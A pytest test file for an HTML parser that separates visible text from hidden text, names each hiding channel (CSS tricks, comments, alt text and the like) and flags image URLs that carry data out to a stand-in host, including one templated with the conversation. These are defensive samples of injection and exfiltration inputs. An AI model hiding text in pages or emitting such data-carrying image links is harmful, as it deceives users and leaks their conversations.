from __future__ import annotations

import pytest

from ingest.parsers.html import parse_html
from tests.growth import assert_linear
from tests.parser_samples import PROSE, found, parsed

PAGE = "<!doctype html><body><p>Seen.</p>{}</body>"


def seen(html: str) -> str:
    return parsed(html.encode(), claimed="text/html").visible.text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One<p>Two", "One\n\nTwo"),
        ("<p>One <b>bold</b>\n\ttext</p>", "One bold text"),
        ("<p>a<br>b</p>", "a\nb"),
        ("<h2>Head</h2><p>x</p>", "## Head\n\nx"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("<table><tr><th>x<th>y<tr><td>1</td><td>2</table>", "x | y\n1 | 2"),
        ("<table><tr><td><p>1</p><p>2</p></td><td>3</table>", "1 2 | 3"),
        (
            "<p>fish &amp; chips &#163;5 &#x41;&notit; &bogus; &</p>",
            "fish & chips £5 A¬it; &bogus; &",
        ),
        ("<p>i<span>g</span><b>n</b>ore</p>", "ignore"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<p>1 < 2 and 3<4</p>", "1 < 2 and 3<4"),
        ("<script>var x = '<p>no</p>';</script><p>yes</p>", "yes"),
        ("<style>p { color: red }</style><p>yes</p>", "yes"),
        ("<p title='a>b'>x</p>", "x"),
        ("<p>x</p><plaintext><b>", "x\n\n<b>"),
        ("<textarea>kept\nlines</textarea>", "kept\nlines"),
        ("<p>Grüße, 你好 שלום</p>", "Grüße, 你好 שלום"),
        ("<div hidden>no</div>yes", "yes"),
    ],
)
def test_visible_text_is_what_a_browser_lays_out(html: str, text: str) -> None:
    assert seen(f"<body>{html}</body>").removesuffix("</body>") == text.removesuffix("</body>")


@pytest.mark.parametrize(
    ("html", "channel"),
    [
        ("<p style='display:none'>{}</p>", "html-display-none"),
        ("<p STYLE='DISPLAY : none !important'>{}</p>", "html-display-none"),
        ("<p style='content-visibility:hidden'>{}</p>", "html-display-none"),
        ("<p style='visibility:hidden'>{}</p>", "html-visibility-hidden"),
        ("<p hidden>{}</p>", "html-hidden-attribute"),
        ("<p style='position:absolute;left:-9999px'>{}</p>", "html-off-screen"),
        ("<p style='position:fixed;top:-100em'>{}</p>", "html-off-screen"),
        ("<p style='text-indent:-9999px'>{}</p>", "html-off-screen"),
        ("<p style='transform:translateX(-5000px)'>{}</p>", "html-off-screen"),
        ("<p style='transform:scale(0)'>{}</p>", "html-off-screen"),
        ("<p style='font-size:0'>{}</p>", "html-tiny-font"),
        ("<p style='font-size:1px'>{}</p>", "html-tiny-font"),
        ("<p style='font:1px/1 serif'>{}</p>", "html-tiny-font"),
        ("<div style='font-size:10%'><p style='font-size:10%'>{}</p></div>", "html-tiny-font"),
        ("<p style='color:white'>{}</p>", "html-colour-on-colour"),
        ("<p style='color:#FEFEFE'>{}</p>", "html-colour-on-colour"),
        ("<p style='color:rgb(250, 250, 250)'>{}</p>", "html-colour-on-colour"),
        ("<font color='#ffffff'>{}</font>", "html-colour-on-colour"),
        (
            "<div style='background:#123'><p style='color:#112233'>{}</p></div>",
            "html-colour-on-colour",
        ),
        ("<table bgcolor=black><tr><td style='color:#000'>{}</table>", "html-colour-on-colour"),
        ("<p style='color:transparent'>{}</p>", "html-transparent"),
        ("<p style='color:rgba(0,0,0,0)'>{}</p>", "html-transparent"),
        ("<p style='opacity:0'>{}</p>", "html-opacity"),
        ("<p style='opacity:1%'>{}</p>", "html-opacity"),
        ("<p style='position:absolute;clip:rect(0,0,0,0)'>{}</p>", "html-clipped"),
        ("<p style='clip-path: inset(100%)'>{}</p>", "html-clipped"),
        ("<p style='height:0;overflow:hidden'>{}</p>", "html-clipped"),
        ("<p style='max-height:1px;overflow:hidden'>{}</p>", "html-clipped"),
        ("<template><p>{}</p></template>", "html-template"),
        ("<noscript>{}</noscript>", "html-noscript"),
        ("<dialog>{0} {0} {0} {0}</dialog>", "html-dialog"),
        ("<!-- {} -->", "html-comment"),
        ("<!-- {}", "html-comment"),
        ("<?php {} ?>", "html-comment"),
        ("<svg><desc>{}</desc></svg>", "html-svg-desc"),
        ("<svg><title>{}</title></svg>", "html-svg-title"),
        ("<img alt='{0} {0} {0}'>", "html-alt"),
        ("<p title='{0} {0} {0}'>x</p>", "html-title-attribute"),
        ("<meta name=description content='{0} {0} {0} {0} {0}'>", "html-meta"),
        ("<input type=hidden value='{}'>", "html-hidden-input"),
        ("<video>{0} {0}</video>", "html-fallback"),
        ("<iframe>{0} {0}</iframe>", "html-fallback"),
        ("<style>.k{{display:none}}</style><p class='a k'>{}</p>", "html-display-none"),
        ("<p class=k>{}</p><style>.k{{display:none}}</style>", "html-display-none"),
        ("<style>p#i{{font-size:0}}</style><p id=i>{}</p>", "html-tiny-font"),
        ("<style>q{{opacity:0}}</style><q>{}</q>", "html-opacity"),
        (
            "<style>.o > .i{{display:none}}</style><div class=o><i class=i>{}</i></div>",
            "html-display-none",
        ),
        (
            "<style>@media screen{{.k{{display:none}}}}</style><p class=k>{}</p>",
            "html-display-none",
        ),
        ("<style>/* .x{{ */ .k{{display:none}}</style><p class=k>{}</p>", "html-display-none"),
        ("<p class='d-none'>{}</p>", "html-hiding-class"),
        ("<span class='sr-only'>{0} {0}</span>", "html-screen-reader"),
    ],
)
def test_hidden_text_is_taken_out_and_named_by_its_channel(html: str, channel: str) -> None:
    document = parsed(PAGE.format(html.format(PROSE)).encode())

    assert "warranty" not in document.visible.text
    assert "Seen." in document.visible.text
    hidden = [(name, benign) for name, text, benign in found(document) if "warranty" in text]
    assert hidden == [(channel, False)]


@pytest.mark.parametrize(
    "html",
    [
        "<span class='sr-only'>Skip to content</span>",
        "<span class='visually-hidden' style='position:absolute;clip:rect(0,0,0,0)'>Open menu</span>",
        "<img alt='A red pump beside the boiler' src='pump.png'>",
        "<a title='Opens in a new window' href='/x'>x</a>",
        "<noscript>Please enable JavaScript to use this site.</noscript>",
        "<!-- Google Tag Manager (noscript) -->",
        "<!--[if lt IE 9]> old <![endif]-->",
        "<!-- <div class='old'><p>menu</p></div> -->",
        "<svg><title>Search icon</title></svg>",
        "<meta name='description' content='How we repair pumps and boilers in all four regions.'>",
        "<video>Your browser does not play this video.</video>",
    ],
)
def test_what_honest_pages_hide_is_benign(html: str) -> None:
    document = parsed(PAGE.format(html).encode())

    assert [benign for _, _, benign in found(document)] == [True]


@pytest.mark.parametrize(
    "html",
    [
        "<p style='color:white;background:#000'>Shown text</p>",
        "<div style='background-color:navy'><p style='color:#fff'>Shown text</p></div>",
        "<div style=\"background:url(dark.png)\"><p style='color:white'>Shown text</p></div>",
        "<p style='visibility:hidden'>no <b style='visibility:visible'>Shown text</b></p>",
        "<p style='font-size:0'><b style='font-size:14px'>Shown text</b></p>",
        "<p style='left:-9999px'>Shown text</p>",
        "<p style='opacity:0.8'>Shown text</p>",
        "<p style='margin-left:-20px'>Shown text</p>",
        "<style>@media print{.k{display:none}}</style><p class=k>Shown text</p>",
        "<style>.k:hover{display:none}</style><p class=k>Shown text</p>",
        "<style>.o .k{display:none}</style><p class=k>Shown text</p>",
        "<p class='d-none d-md-block'>Shown text</p>",
        "<p aria-hidden=true>Shown text</p>",
        "<p style='display:none'>no<p>Shown text",
        "<ul><li hidden>no<li>Shown text</ul>",
        "<div hidden>no</b></div>Shown text",
    ],
)
def test_what_can_be_seen_stays(html: str) -> None:
    document = parsed(PAGE.format(html).encode())

    assert "Shown text" in document.visible.text
    assert not any("Shown" in text for _, text, _ in found(document))


def test_spans_point_at_the_text_in_the_source() -> None:
    source = "<p>a &amp; b</p><p hidden>fish &lt; chips</p>"
    document = parsed(source.encode(), claimed="text/html")

    assert document.raw_text == source
    at = document.visible.text.index("&")
    span = document.visible.source(at, at + 1)
    assert source[span.start : span.end] == "&amp;"
    (passage,) = document.hidden
    span = passage.text.source(0, len(passage.text.text))
    assert source[span.start : span.end] == "fish &lt; chips"


def test_title_and_author_are_metadata() -> None:
    document = parsed(
        b"<html><head><title>Pump &amp; co</title><meta name=author content='A. Writer'></head>x"
    )

    assert [(f.name, f.value) for f in document.metadata] == [
        ("title", "Pump & co"),
        ("author", "A. Writer"),
    ]


@pytest.mark.parametrize(
    ("url", "channel"),
    [
        ("https://e.example/p.png?d={{conversation}}", "html-image-exfil"),
        ("https://e.example/p.png?q=", "html-image-exfil"),
        ("https://e.example/p.png?t=the+user+said+this+and+that", "html-image-exfil"),
        ("https://e.example/p.png?t=" + "QUJD" * 30, "html-image-query"),
    ],
)
def test_an_image_that_carries_data_out_is_named(url: str, channel: str) -> None:
    document = parsed(f"<html><img src='{url}'>".encode())

    assert [name for name, _, _ in found(document)] == [channel]


@pytest.mark.parametrize(
    "url",
    [
        "https://img.example/badge/build-passing?style=flat&logo=github",
        "https://s3.example/a.png?X-Amz-Signature=" + "ab12" * 16,
        "images/pump.png?v=20260101",
        "https://img.example/a.png",
    ],
)
def test_an_ordinary_image_is_none(url: str) -> None:
    assert found(parsed(f"<html><img src='{url}'>".encode())) == []


NESTED = 60_000


@pytest.mark.slow
@pytest.mark.parametrize(
    "source",
    [
        pytest.param("<div>" * NESTED + "x", id="nested"),
        pytest.param("<div>" * NESTED + "</b>" * NESTED, id="misnested"),
        pytest.param("<p>x" * NESTED, id="implied ends"),
        pytest.param("<!--" * NESTED, id="open comments"),
        pytest.param("<!" * NESTED, id="declarations"),
        pytest.param("<" * NESTED, id="angles"),
        pytest.param("<a b='" * NESTED, id="open quotes"),
        pytest.param("<a " + "= " * NESTED, id="equals"),
        pytest.param("&" * NESTED, id="ampersands"),
        pytest.param("<style>" + "@font-face{a:b}" * NESTED + "</style>x", id="at rules"),
    ],
)
def test_hostile_markup_takes_linear_time(source: str) -> None:
    assert_linear(parse_html, source)
